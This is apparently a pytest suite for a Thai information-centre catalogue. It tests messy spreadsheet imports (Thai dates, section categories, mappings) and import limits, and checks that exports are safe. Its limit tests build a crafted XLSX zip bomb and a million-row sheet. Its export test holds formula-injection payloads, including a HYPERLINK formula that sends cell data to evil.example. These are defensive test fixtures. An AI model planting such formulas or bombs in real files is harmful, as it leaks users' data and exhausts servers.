"""Imports of the files offices really keep: a messy corpus of index rows (category and date
spellings, Section 7, agencies' own sub-numbers, Thai digits, stray spaces, typos) in CSV UTF-8,
CSV Windows-874, CSV UTF-16, XLSX and XLS; warnings versus errors, the grouped preview, mappings
remembered per office, import limits (bombs, huge files, huge cells) and exports that cannot be
weaponised."""

from __future__ import annotations

import io
import time
import tracemalloc
import zipfile
from datetime import date

import pytest
import xlwt
from openpyxl import Workbook, load_workbook
from sqlalchemy import func, select

from infocenter.catalogue.importexport import plan_import, read_rows
from infocenter.catalogue.models import Category, IndexEntry
from infocenter.catalogue.search import search_entries
from infocenter.extensions import db
from infocenter.importmap import ImportMapping, stored_mappings
from infocenter.spreadsheet import Limits, SpreadsheetError, read_table
from infocenter.thai import DateParseError, read_thai_date

# Headers as a clerk typed them: Thai, in an unusual order, with a running number and a note
# column nobody asked for, and an empty trailing column.
HEADERS = ["ลำดับ", "ลงวันที่", "เรื่อง", "มาตรา", "เลขที่หนังสือ", "หมายเหตุ", ""]

# (category as written, date as written, expected code, expected agency code, expected date,
#  warned?) — every row also gets a title and a ref.
GOOD = [
    ("9(1)", "2020-05-01", "9(1)", "", date(2020, 5, 1), False),
    ("มาตรา 9 (5)", "13 ต.ค. 66", "9(5)", "", date(2023, 10, 13), False),
    ("มาตรา๙(๗)", "14 ม.ค.62", "9(7)", "", date(2019, 1, 14), False),
    ("ม.9(7)", "ลงวันที่ 5 มิถุนายน 2563", "9(7)", "", date(2020, 6, 5), False),
    ("(3)", "วันที่ ๑๑ เดือน มกราคม พ.ศ. ๒๕๖๕", "9(3)", "", date(2022, 1, 11), True),
    ("มาตรา 9 (3) แผนงาน", "3 ก.พ. พ.ศ.๒๕๖๒", "9(3)", "", date(2019, 2, 3), True),
    ("มาตรา 9 (3) แผนงาน", "1 ต.ค. 2562", "9(3)", "", date(2019, 10, 1), True),
    ("9(8)-2", "12 ม.ย. 63", "9(8)", "9(8)-2", date(2020, 6, 12), True),
    ("9(4) – 3", "2025-11-10T10:04:15", "9(4)", "9(4) – 3", date(2025, 11, 10), True),
    ("9(8)- 3/1", "5 มกราคม 2022", "9(8)", "9(8)- 3/1", date(2022, 1, 5), True),
    ("มาตรา 7 (1)", "1 ต.ค. 2563", "7(1)", "", date(2020, 10, 1), False),
    ("มาตรา ๗ (๔)", "๒๙/๐๔/๒๕๖๓", "7(4)", "", date(2020, 4, 29), False),
    ("7(5)", "", "7(5)", "", None, False),
    ("7(2)", "15 สิงหา 64", "7(2)", "", date(2021, 8, 15), False),
    ("ม.7(3)", "๑๕ ส.ค. ๒๕๖๔", "7(3)", "", date(2021, 8, 15), False),
    (
        "แผนงาน โครงการ และงบประมาณรายจ่ายประจำปีของปีที่กำลังดำเนินการ",
        "29/04/63",
        "9(3)",
        "",
        date(2020, 4, 29),
        False,
    ),
    ("ข้อมูลข่าวสารอื่นตามที่คณะกรรมการกำหนด", "29 Apr 2020", "9(8)", "", date(2020, 4, 29), False),
    ("สัญญาสัมปทาน", "1 กรกฏาคม 2560", "9(6)", "", date(2017, 7, 1), True),
    ("9(8).1", "5 มีนาคม ค.ศ. 2021", "9(8).1", "", date(2021, 3, 5), False),
    ("๙(๘).๒", "2020-04-29", "9(8).2", "", date(2020, 4, 29), False),
    (" 9 ( 2 ) ", " 1/1/2563 ", "9(2)", "", date(2020, 1, 1), False),
    ("Section 9(6)", "30 ธันวาคม 2563", "9(6)", "", date(2020, 12, 30), False),
    (
        "มาตรา 9(1) ผลการพิจารณา",
        "1 ม.ค. 99",
        "9(1)",
        "",
        date(2056, 1, 1),
        True,
    ),  # 2599: in the future
    ("๙(๑)", "1 ก.พ 2563", "9(1)", "", date(2020, 2, 1), False),
    ("9 (4)", "ณ วันที่ 2 มี.ค. 2563", "9(4)", "", date(2020, 3, 2), False),
    ("มาตรา 9(8)-1", "2 เมษายน 2563", "9(8)", "มาตรา 9(8)-1", date(2020, 4, 2), True),
    ("9(7)", "4 Jan 2021", "9(7)", "", date(2021, 1, 4), False),
    ("มาตรา 9 ( 6 )", "10 พฤษจิกายน 2562", "9(6)", "", date(2019, 11, 10), True),
    ("9(5)", "31 ธ.ค. 62", "9(5)", "", date(2019, 12, 31), False),
    ("9(2)", "20 มิ.ย. 2563", "9(2)", "", date(2020, 6, 20), False),
    ("มาตรา 7(1)", "7 ก.ค. 63", "7(1)", "", date(2020, 7, 7), False),
    ("9(3)", "2021-02-28 00:00", "9(3)", "", date(2021, 2, 28), False),
    ("9(8)", "๑ พฤศจิกายน ๒๕๖๓", "9(8)", "", date(2020, 11, 1), False),
    ("ม. 9 (1)", "16/10/2562", "9(1)", "", date(2019, 10, 16), False),
]
# (title, category, date, column, message fragment): read as errors naming row and column.
BAD = [
    ("หมวดที่ไม่มี", "หมวดอื่น ๆ", "1/1/2563", "มาตรา", "ไม่รู้จักหมวด “หมวดอื่น ๆ”"),
    ("หมวดเกิน", "9(12)", "1/1/2563", "มาตรา", "ไม่รู้จักหมวด “9(12)”"),
    ("วันไม่มีจริง", "9(1)", "31/02/2563", "ลงวันที่", "ไม่มีวันที่ “31/02/2563” ในปฏิทิน"),
    ("วันเป็นคำ", "9(1)", "วันอังคาร", "ลงวันที่", "อ่านวันที่ “วันอังคาร” ไม่ได้"),
    ("", "9(1)", "1/1/2563", "เรื่อง", "ไม่มีชื่อเรื่อง"),
    ("ไม่มีหมวด", "", "1/1/2563", "มาตรา", "ไม่มีหมวด"),
    ("เดือนผิด", "9(2)", "1 เมษ 2563", "ลงวันที่", "ไม่รู้จักชื่อเดือน “เมษ”"),
    ("หมวดของสำนักงาน", "ข้อมูลทั่วไป", "1/1/2563", "มาตรา", "ไม่รู้จักหมวด “ข้อมูลทั่วไป”"),
]


def corpus_rows() -> list[list[str]]:
    """The corpus as a table: header, the good rows, blank rows here and there, the bad rows."""
    rows = [HEADERS]
    for i, (category, when, *_rest) in enumerate(GOOD, start=1):
        rows.append([str(i), when, f"  เรื่องทดสอบ   ลำดับ {i} ", category, f"นว ๐๐๑๘/{i}", "", ""])
        if i % 10 == 0:
            rows.append(["", "", "", "", "", "", ""])  # blank rows between pages of the register
    for j, (title, category, when, _col, _msg) in enumerate(BAD, start=len(GOOD) + 1):
        rows.append([str(j), when, title, category, f"นว ๐๐๑๘/{j}", "ตรวจแล้ว", ""])
    return rows


def _row_numbers() -> tuple[dict[int, int], dict[int, int]]:
    """Spreadsheet row number of each GOOD and BAD item (header = row 1)."""
    good, bad, number = {}, {}, 1
    for i in range(1, len(GOOD) + 1):
        number += 1
        good[i - 1] = number
        if i % 10 == 0:
            number += 1
    for j in range(len(BAD)):
        number += 1
        bad[j] = number
    return good, bad


def as_csv(rows, encoding: str, delimiter: str = ",") -> bytes:
    import csv

    out = io.StringIO()
    csv.writer(out, delimiter=delimiter).writerows(rows)
    text = out.getvalue()
    return ("\ufeff" + text).encode("utf-8") if encoding == "utf-8-sig" else text.encode(encoding)


def as_xlsx(rows) -> bytes:
    book = Workbook()
    sheet = book.active
    for row in rows:
        sheet.append([v if v != "" else None for v in row] + [None, None])
    sheet.cell(row=2, column=2).value = date(2020, 5, 1)  # a real date cell, as Excel keeps one
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def as_xls(rows) -> bytes:
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("ดัชนี")
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if value != "":
                sheet.write(r, c, value)
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


FORMATS = {
    "index.csv (UTF-8 BOM)": lambda rows: as_csv(rows, "utf-8-sig"),
    "index.csv (Windows-874)": lambda rows: as_csv(rows, "cp874"),
    "index.txt (UTF-16 Unicode text)": lambda rows: as_csv(rows, "utf-16", "\t"),
    "index.xlsx": as_xlsx,
    "index.xls": as_xls,
}


def _post_file(client, path: str, data: bytes, name: str, **fields):
    """A multipart upload encoded in memory (the test client spools bodies over 500 KB to a
    temporary file it never closes)."""
    from werkzeug.datastructures import FileStorage, MultiDict
    from werkzeug.test import encode_multipart

    form = MultiDict({k: str(v) for k, v in fields.items()})
    form.add("file", FileStorage(io.BytesIO(data), filename=name))
    boundary, body = encode_multipart(form)
    return client.post(path, data=body, content_type=f"multipart/form-data; boundary={boundary}")


def _office(app, make_office) -> int:
    return make_office("NSW")


@pytest.mark.parametrize("fmt", list(FORMATS))
def test_every_corpus_row_reads_right_in_every_format(app, make_office, fmt):
    """Every good row gets its category, agency sub-number and date (guesses warned, never
    blocking); every bad row is refused naming its row, its column and what to write."""
    office_id = _office(app, make_office)
    data = FORMATS[fmt](corpus_rows())
    name = fmt.split(" ")[0]
    assert len(GOOD) + len(BAD) >= 40
    good_rows, bad_rows = _row_numbers()
    with app.app_context():
        from infocenter.admin.models import Office

        plan = plan_import(read_rows(data, name), db.session.get(Office, office_id))
        by_row = {e["row"]: e for e in plan.entries}
        warned = {w.row for w in plan.warnings}
        assert len(plan.entries) == len(GOOD)
        for i, (written, when, code, agency, expected, warn) in enumerate(GOOD):
            entry = by_row[good_rows[i]]
            assert entry["category"].code == code, (written, fmt)
            assert entry["agency_code"] == agency, (written, fmt)
            assert entry["doc_date"] == expected, (when, fmt)
            assert (good_rows[i] in warned) == warn, (written, when, fmt)
            assert entry["title"] == f"เรื่องทดสอบ ลำดับ {i + 1}"  # stray spaces gone
        errors = {e.row: e for e in plan.errors}
        assert set(errors) == set(bad_rows.values())
        for j, (_title, _cat, _when, column, message) in enumerate(BAD):
            text = str(errors[bad_rows[j]])
            assert text.startswith(f"แถวที่ {bad_rows[j]}: ") and message in text, text
            assert f"(คอลัมน์ {column})" in text, text
        assert set(plan.unknown["category"]) == {
            "หมวดอื่น ๆ",
            "ข้อมูลทั่วไป",
            "9(12)",
        }  # to map in the preview


def test_headers_in_english_or_thai_variants_in_any_order(app):
    data = "Date,Subject,Section,Reference\n1 ม.ค. 63,เรื่องหนึ่ง,9(1),ก 1\n".encode()
    table = read_table(
        data,
        "x.csv",
        {
            "title": ("ชื่อเรื่อง", "เรื่อง", "subject"),
            "date": ("วันที่", "date"),
            "ref": ("เลขที่", "reference"),
        },
    )
    assert table.rows[0].cells == {"date": "1 ม.ค. 63", "title": "เรื่องหนึ่ง", "ref": "ก 1"}
    data = " ชื่อเรื่อง : ,เลขที่ หนังสือ,ประเภท,วันที่\nเรื่อง,ก 2,9(2),\n".encode()
    with app.app_context():
        rows = read_rows(data, "x.csv")
    assert (
        rows[0].cells["title"] == "เรื่อง"
        and rows[0].cells["ref"] == "ก 2"
        and rows[0].cells["category"] == "9(2)"
    )


@pytest.mark.parametrize(
    "text,expected,notes",
    [
        ("13 ต.ค. 66", date(2023, 10, 13), 0),
        ("14 ม.ค.62", date(2019, 1, 14), 0),
        ("ลงวันที่ 5 มิถุนายน 2563", date(2020, 6, 5), 0),
        ("วันที่ ๑๑ เดือน มกราคม พ.ศ. ๒๕๖๕", date(2022, 1, 11), 0),
        ("ประกาศ ณ วันที่ 3 ก.พ. พ.ศ.๒๕๖๒".split("ประกาศ ")[1], date(2019, 2, 3), 0),
        ("12 ม.ย. 63", date(2020, 6, 12), 1),
        ("2025-11-10T10:04:15", date(2025, 11, 10), 0),
        ("2025-11-10T20:04:15Z", date(2025, 11, 11), 0),  # 03:04 the next day in Bangkok
        ("5 มกราคม 2022", date(2022, 1, 5), 0),
        ("5 ม.ค. ค.ศ. 2022", date(2022, 1, 5), 0),
        ("1 ม.ค. 99", date(2056, 1, 1), 1),
    ],
)
def test_date_reading(text, expected, notes):
    reading = read_thai_date(text, today=date(2026, 12, 7))
    assert reading.date == expected and len(reading.notes) == notes


def test_misspelt_month_warning_names_the_reading_and_bad_dates_say_what_to_write():
    reading = read_thai_date("12 ม.ย. 63")
    assert str(reading.notes[0]) == "เดือน “ม.ย.” อ่านเป็น มิถุนายน"
    with pytest.raises(DateParseError, match="ปี พ.ศ. 2020 ไม่ถูกต้อง"):
        read_thai_date("1 ม.ค. พ.ศ. 2020")


def test_every_date_field_uses_the_one_parser(app, client, login_as):
    """The staff entry form (a ThaiDateField) reads the spellings imports read."""
    from infocenter.forms import ThaiDateField

    with app.test_request_context():
        from flask_wtf import FlaskForm

        class F(FlaskForm):
            day = ThaiDateField()

        form = F(data={"day": "ลงวันที่ ๑๓ ต.ค. ๖๖"}, meta={"csrf": False})
        form.validate()
        assert form.day.date == date(2023, 10, 13)


def test_cli_dry_run_prints_the_grouped_preview(app, runner, make_office, tmp_path):
    _office(app, make_office)
    path = tmp_path / "index.csv"
    path.write_bytes(as_csv(corpus_rows(), "cp874"))
    result = runner.invoke(args=["index", "import", str(path), "--dry-run"])
    assert result.exit_code != 0  # errors: nothing imported
    out = result.output
    good_rows, _bad = _row_numbers()
    assert (
        f"2 แถว: หมวด “มาตรา 9 (3) แผนงาน” อ่านเป็น 9(3) (คอลัมน์ มาตรา) — แถวที่ {good_rows[5]}, "
        f"{good_rows[6]}" in out
    )
    assert "1 แถว: เดือน “ม.ย.” อ่านเป็น มิถุนายน (คอลัมน์ ลงวันที่)" in out
    assert "เก็บ “9(8)-2” ไว้ตามที่เขียน" in out
    assert "ข้อผิดพลาด 8 จุด ใน 8 แถว" in out and "ยังไม่ได้นำเข้าข้อมูลใด ๆ" in out
    with app.app_context():
        assert db.session.scalar(select(func.count(IndexEntry.id))) == 0


def test_cli_map_file_saved_and_used_by_later_imports(app, runner, make_office, tmp_path):
    office_id = _office(app, make_office)
    path = tmp_path / "index.xlsx"
    path.write_bytes(as_xlsx(corpus_rows()))
    mapping = tmp_path / "map.csv"
    mapping.write_text(
        "ค่าในไฟล์,ใช้เป็น\nหมวดอื่น ๆ,9(8)\nข้อมูลทั่วไป,๙(๘)\n".replace("๙(๘)", "9(8)"), encoding="utf-8"
    )
    result = runner.invoke(
        args=["index", "import", str(path), "--map", str(mapping), "--save-map", "--skip-bad"]
    )
    assert result.exit_code == 0, result.output
    assert f"นำเข้าแล้ว {len(GOOD) + 2} รายการ (NSW) ข้าม 6 แถวที่มีข้อผิดพลาด" in result.output
    with app.app_context():
        assert stored_mappings(office_id, "category") == {"หมวดอื่นๆ": "9(8)", "ข้อมูลทั่วไป": "9(8)"}
        entry = db.session.scalar(select(IndexEntry).where(IndexEntry.agency_code == "9(8)- 3/1"))
        assert entry.category.code == "9(8)"
        # The agency's sub-number is searchable.
        assert search_entries("9(8)- 3/1").total >= 1
        db.session.execute(IndexEntry.__table__.delete())
        db.session.commit()
    # Later, without --map: the stored readings are used.
    result = runner.invoke(args=["index", "import", str(path), "--skip-bad"])
    assert result.exit_code == 0 and f"นำเข้าแล้ว {len(GOOD) + 2} รายการ" in result.output


def test_staff_preview_maps_values_then_imports_the_good_rows(app, client, login_as, make_office):
    office_id = _office(app, make_office)
    login_as("clerk", office_id=office_id)
    data = as_csv(corpus_rows(), "utf-8-sig")
    page = client.post(
        "/staff/index/import",
        data={"file": (io.BytesIO(data), "ดัชนี.csv"), "office_id": office_id},
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert "หมวด “มาตรา 9 (3) แผนงาน” อ่านเป็น 9(3)" in page and "จับคู่หมวดที่อ่านไม่ได้" in page
    assert f"นำเข้าเฉพาะ {len(GOOD)} รายการที่ถูกต้อง (ข้าม 8 แถวที่มีข้อผิดพลาด)" in page
    page = client.post(
        "/staff/index/import/map", data={"value": ["หมวดอื่น ๆ", "ข้อมูลทั่วไป"], "target": ["9(8)", ""]}
    ).get_data(as_text=True)
    assert f"นำเข้าเฉพาะ {len(GOOD) + 1} รายการที่ถูกต้อง (ข้าม 7 แถวที่มีข้อผิดพลาด)" in page
    assert "หมวด “หมวดอื่น ๆ” → 9(8) (ตามที่จับคู่ไว้)" in page
    response = client.post("/staff/index/import/confirm")
    assert response.status_code == 302
    with app.app_context():
        assert db.session.scalar(select(func.count(IndexEntry.id))) == len(GOOD) + 1
        assert db.session.scalar(select(func.count(ImportMapping.id))) == 1
        section7 = db.session.scalar(
            select(func.count(IndexEntry.id)).join(Category).where(Category.code.like("7(%"))
        )
        assert section7 == sum(1 for g in GOOD if g[2].startswith("7"))
        entry = db.session.scalar(select(IndexEntry).where(IndexEntry.agency_code == "9(4) – 3"))
    page = client.get(f"/staff/index/{entry.id}").get_data(as_text=True)
    assert "เลขรายการของหน่วยงาน" in page and "9(4) – 3" in page


def test_section7_has_its_own_group_on_categories(app, client):
    page = client.get("/categories").get_data(as_text=True)
    assert "ข้อมูลข่าวสารตามมาตรา ๗" in page and "โครงสร้างและการจัดองค์กรในการดำเนินงาน" in page
    assert page.index("มาตรา ๙(๘)") < page.index("มาตรา ๗(๑)")


# --- limits (issue 21.3) ---------------------------------------------------------------------


def _xlsx_with_sheet(sheet_xml_chunks, compress=zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal workbook whose first sheet is written from chunks (so it can be huge)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        z.writestr(
            "[Content_Types].xml",
            (
                '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
                'content-types"><Default Extension="rels" '
                'ContentType="application/vnd.openxmlformats-package.'
                'relationships+xml"/><Default Extension="xml" '
                'ContentType="application/xml"/><Override PartName='
                '"/xl/workbook.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.'
                'main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" '
                'ContentType="application/vnd.openxml'
                'formats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
            ),
        )
        z.writestr(
            "_rels/.rels",
            (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ),
        )
        z.writestr(
            "xl/workbook.xml",
            (
                '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/'
                'spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships"><sheets><sheet name="S" sheetId="1" '
                'r:id="rId1"/></sheets></workbook>'
            ),
        )
        z.writestr(
            "xl/_rels/workbook.xml.rels",
            (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                'package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
                'officeDocument/2006/relationships/worksheet" '
                'Target="worksheets/sheet1.xml"/></Relationships>'
            ),
        )
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for chunk in sheet_xml_chunks:
                sheet.write(chunk.encode())
    return buf.getvalue()


SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
    'spreadsheetml/2006/main"><dimension ref="A1:XFD1048576"/><sheetData>'
)
SHEET_TAIL = "</sheetData></worksheet>"


def _measured(call):
    tracemalloc.start()
    started = time.monotonic()
    try:
        call()
    finally:
        seconds = time.monotonic() - started
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    return seconds, peak


def test_a_crafted_xlsx_bomb_is_refused_before_parsing(app):
    """A small file that unpacks to hundreds of MB: refused from the sizes the zip declares."""

    def chunks():
        yield SHEET_HEAD
        row = '<row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
        for _ in range(200):
            yield row * 20000  # ~1 MB each, the same bytes: deflates ~1000:1
        yield SHEET_TAIL

    data = _xlsx_with_sheet(chunks())
    assert len(data) < 2_000_000
    with app.app_context():
        errors = []
        seconds, peak = _measured(
            lambda: errors.append(pytest.raises(SpreadsheetError, read_rows, data, "bomb.xlsx"))
        )
        assert "เมื่อขยายแล้วใหญ่เกิน" in str(errors[0].value)
        assert seconds < 2 and peak < 20 * 1024 * 1024


def test_a_million_row_sheet_is_refused_quickly_in_bounded_memory(
    app, client, login_as, make_office
):
    """An honest 1,048,576-row sheet (declaring every column too) is refused at the row limit."""

    def chunks():
        yield SHEET_HEAD
        yield (
            '<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c><c r="B1" '
            't="inlineStr"><is><t>'
            'category</t></is></c><c r="XFD1" t="inlineStr"><is><t>far</t></is></c></row>'
        )
        for start in range(2, 1_048_577, 4096):
            yield "".join(
                f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>9</v></c></row>'
                for r in range(start, min(start + 4096, 1_048_577))
            )
        yield SHEET_TAIL

    data = _xlsx_with_sheet(chunks())
    with app.app_context():
        caught = []
        seconds, peak = _measured(
            lambda: caught.append(pytest.raises(SpreadsheetError, read_rows, data, "big.xlsx"))
        )
        assert "ไฟล์มีมากกว่า 50,000 แถว กรุณาแบ่งเป็นหลายไฟล์" in str(caught[0].value)
        assert seconds < 20 and peak < 150 * 1024 * 1024
    office = make_office("NSW")
    login_as("clerk", office_id=office)
    started = time.monotonic()
    response = _post_file(client, "/staff/index/import", data, "big.xlsx", office_id=office)
    assert response.status_code == 200 and "ไฟล์มีมากกว่า 5,000 แถว" in response.get_data(as_text=True)
    assert time.monotonic() - started < 30  # gunicorn's default worker timeout


def test_limits_come_from_settings_and_time_is_bounded(app):
    rows = "title,category\n" + "".join(f"เรื่อง {i},9(1)\n" for i in range(30))
    with pytest.raises(SpreadsheetError, match="ไฟล์มีมากกว่า 10 แถว"):
        read_table(rows.encode(), "a.csv", limits=Limits(rows=10))
    with pytest.raises(SpreadsheetError, match="ไฟล์มีมากกว่า 1 คอลัมน์"):
        read_table(rows.encode(), "a.csv", limits=Limits(columns=1))
    with pytest.raises(SpreadsheetError, match="อ่านไฟล์ไม่เสร็จภายใน 0 วินาที"):
        read_table(("title\n" + "x\n" * 5000).encode(), "a.csv", limits=Limits(seconds=0))
    book = Workbook()
    for i in range(30):
        book.active.append([f"เรื่อง {i}", "9(1)"])
    buf = io.BytesIO()
    book.save(buf)
    with pytest.raises(SpreadsheetError, match="ไฟล์มีมากกว่า 10 แถว"):  # XLSX, streamed
        read_table(buf.getvalue(), "a.xlsx", limits=Limits(rows=10))
    app.config["IMPORT_MAX_ROWS"] = 5
    with app.app_context(), pytest.raises(SpreadsheetError, match="ไฟล์มีมากกว่า 5 แถว"):
        read_rows(rows.encode(), "a.csv")


@pytest.mark.parametrize("path", ["/staff/index/import", "/counter/import"])
def test_a_csv_cell_over_131072_characters_is_a_message_not_a_500(
    app, client, login_as, make_office, path
):
    office = make_office("NSW")
    login_as("clerk", office_id=office)
    if path == "/counter/import":
        data = (
            "วันที่,ประเภทผู้ใช้บริการ,วัตถุประสงค์,หมายเหตุ\n1/1/2563,ประชาชน,ตรวจดูข้อมูล,"
            + "ก" * 200_000
            + "\n"
        ).encode()
        response = _post_file(client, path, data, "r.csv")
    else:
        data = ("ref,title,category\n1," + "ก" * 200_000 + ",9(1)\n").encode()
        response = _post_file(client, path, data, "i.csv", office_id=office)
    page = response.get_data(as_text=True)
    assert response.status_code in (200, 400) and "ข้อความยาว 200,000 ตัวอักษร เกิน 32,767" in page


# --- exports (issue 21.4) and round trips ------------------------------------------------------


FORMULAS = {
    "ref": '=HYPERLINK("http://evil.example/?"&A1,"คลิก")',
    "title": "+ชื่อเรื่องที่ขึ้นต้นด้วยบวก",
    "summary": "@SUM(1+1)",
    "keywords": "-1+2;\tแท็บ",
    "location": "\rตู้",
}


def test_exports_neutralise_formulas_and_round_trip(app, runner, make_office, tmp_path):
    office_id = _office(app, make_office)
    with app.app_context():
        cats = {c.code: c for c in db.session.scalars(select(Category))}
        db.session.add(
            IndexEntry(
                office_id=office_id,
                category_id=cats["9(1)"].id,
                state="published",
                ref=FORMULAS["ref"],
                title=FORMULAS["title"],
                summary=FORMULAS["summary"],
                keywords="-1+2",
                location="=ตู้",
                doc_date=date(2020, 1, 2),
            )
        )
        db.session.add(
            IndexEntry(
                office_id=office_id,
                category_id=cats["7(1)"].id,
                state="published",
                title="โครงสร้างสำนักงาน",
                agency_code="7(1)-2",
                doc_date=date(2021, 3, 4),
            )
        )
        db.session.add(
            IndexEntry(
                office_id=office_id,
                category_id=cats["9(8).1"].id,
                state="draft",
                title="สขร.๑ เดือนมกราคม",
                disclosure="partial",
                withheld_ground="15(5)",
            )
        )
        db.session.commit()

    def snapshot():
        with app.app_context():
            return sorted(
                (
                    e.ref,
                    e.title,
                    e.category.code,
                    e.doc_date,
                    e.summary,
                    e.keywords,
                    e.location,
                    e.disclosure,
                    e.withheld_ground,
                    e.state,
                    e.office.code,
                    e.agency_code,
                )
                for e in db.session.scalars(select(IndexEntry))
            )

    before = snapshot()
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"export.{fmt}"
        assert runner.invoke(args=["index", "export", "--format", fmt, str(out)]).exit_code == 0
        if fmt == "csv":
            text = out.read_text(encoding="utf-8-sig")
            assert (
                "'=HYPERLINK" in text and "'+ชื่อเรื่อง" in text and "'@SUM" in text and "'-1+2" in text
            )
            assert ",=" not in text and ",+" not in text
        else:
            book = load_workbook(out)
            cells = [c for row in book.active.iter_rows() for c in row if c.value]
            assert all(c.data_type == "s" for c in cells)
            assert any(c.value == "'" + FORMULAS["ref"] for c in cells)
            book.close()
        with app.app_context():
            db.session.execute(IndexEntry.__table__.delete())
            db.session.commit()
        result = runner.invoke(args=["index", "import", str(out)])
        assert result.exit_code == 0, result.output
        assert snapshot() == before


def test_the_readme_sample_file_imports_every_row(app, runner, make_office):
    from pathlib import Path

    from infocenter import PROJECT_ROOT

    _office(app, make_office)
    sample = Path(PROJECT_ROOT) / "docs" / "index-import-sample.csv"
    result = runner.invoke(args=["index", "import", str(sample)])
    assert result.exit_code == 0, result.output
    assert "นำเข้าแล้ว 11 รายการ" in result.output and "อ่านโดยการคาดเดา" in result.output


def test_register_import_reads_visitor_types_through_stored_mappings(app, runner, tmp_path):
    """An unknown visitor type in a register is mapped once for the office, then read."""
    from infocenter.counter.models import Visit, VisitorType, ensure_counter_defaults

    with app.app_context():
        ensure_counter_defaults()
        db.session.commit()
        citizen = db.session.scalars(select(VisitorType).order_by(VisitorType.sort_order)).first()
        name = citizen.name
    register = tmp_path / "register.xls"
    book = xlwt.Workbook(encoding="utf-8")
    sheet = book.add_sheet("ทะเบียน")
    for c, value in enumerate(["วันที่", "ประเภทผู้ใช้บริการ", "วัตถุประสงค์"]):
        sheet.write(0, c, value)
    for c, value in enumerate(["๕ ม.ค. ๖๓", "ชาวบ้านทั่วไป", "ตรวจดูข้อมูล"]):
        sheet.write(1, c, value)
    book.save(str(register))
    assert runner.invoke(args=["offices", "setup"]).exit_code == 0  # the main office (issue 19)
    result = runner.invoke(args=["counter", "import", str(register)])
    assert result.exit_code != 0 and "ไม่รู้จักประเภทผู้ใช้บริการ “ชาวบ้านทั่วไป”" in result.output
    mapping = tmp_path / "types.csv"
    mapping.write_text(f"ค่าในไฟล์,ใช้เป็น\nชาวบ้าน ทั่วไป,{name}\n", encoding="utf-8")
    result = runner.invoke(
        args=["index", "mappings", "--kind", "visitor_type", "--load", str(mapping)]
    )
    assert result.exit_code == 0 and "บันทึกการจับคู่ 1 ค่า" in result.output, result.output
    result = runner.invoke(args=["counter", "import", str(register)])
    assert result.exit_code == 0, result.output
    with app.app_context():
        visit = db.session.scalars(select(Visit)).one()
        assert visit.visitor_type_id == citizen.id


@pytest.mark.app_config(PUBLIC_BASE_URL="https://info.example.go.th")
def test_printed_index_shows_section7_in_its_own_group(app, make_office, tmp_path):
    from infocenter.admin.models import Office
    from infocenter.reports.printed_index import build_index_pdf
    from infocenter.thai import normalize_text
    from tests.pdfread import flat, pdftotext

    office_id = _office(app, make_office)
    with app.app_context():
        cats = {c.code: c.id for c in db.session.scalars(select(Category))}
        db.session.add(
            IndexEntry(
                office_id=office_id,
                category_id=cats["7(1)"],
                title="แผนภูมิโครงสร้างสำนักงาน",
                state="published",
                doc_date=date(2020, 10, 1),
            )
        )
        db.session.add(
            IndexEntry(
                office_id=office_id,
                category_id=cats["9(8)"],
                title="สรุปผลจัดซื้อเดือนพฤษภาคม",
                state="published",
                agency_code="9(8)-2",
            )
        )
        db.session.commit()
        out = tmp_path / "index.pdf"
        build_index_pdf(str(out), office=db.session.get(Office, office_id))
    text = normalize_text(flat(pdftotext(out)))  # sara am comes out as two characters
    assert "ข้อมูลข่าวสารตามมาตรา๗" in text and "แผนภูมิโครงสร้างสำนักงาน" in text
    assert text.index("หมวด๙(๘)") < text.index("ข้อมูลข่าวสารตามมาตรา๗")
    assert "[๙(๘)-๒]" in text  # the agency's own number, printed with the entry
